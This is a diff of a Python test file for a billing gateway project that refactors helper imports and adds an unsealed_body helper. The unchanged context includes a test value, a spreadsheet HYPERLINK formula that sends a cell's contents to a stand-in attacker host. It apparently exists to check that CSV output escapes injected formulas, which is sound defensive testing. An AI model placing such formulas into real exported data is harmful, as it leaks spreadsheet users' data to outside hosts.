@@ -14,7 +14,6 @@ from typing import Any
 
 import pytest
 from test_billing_report import sealed_record
-from test_consumer_support import make_signer, record_body
 
 from gateway.billing.report import build_report
 from gateway.cli import main
@@ -22,6 +21,7 @@ from gateway.cloud.cloudstore import open_cloud_store
 from gateway.cloud.consumer import SessionConsumer
 from gateway.records import GENESIS, seal
 from gateway.safeout import csv_cell, printable
+from tests.support.consumer import make_signer, record_body, unsealed_body
 
 SITE = "depot-7"
 FORMULA_USER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -159,8 +159,7 @@ async def test_sessions_table_escapes_control_characters(
     from gateway.store import Store
     from gateway.store.cli import run_sessions
 
-    body = record_body(1, user=TERMINAL_USER, charger=BIDI_CHARGER)
-    body.pop("seq")
+    body = unsealed_body(1, user=TERMINAL_USER, charger=BIDI_CHARGER)
     async with Store.open(tmp_path / "b.db", site_id=SITE, reserve_bytes=0) as store:
         await store.finish_session(body)
     config = GatewayConfig(
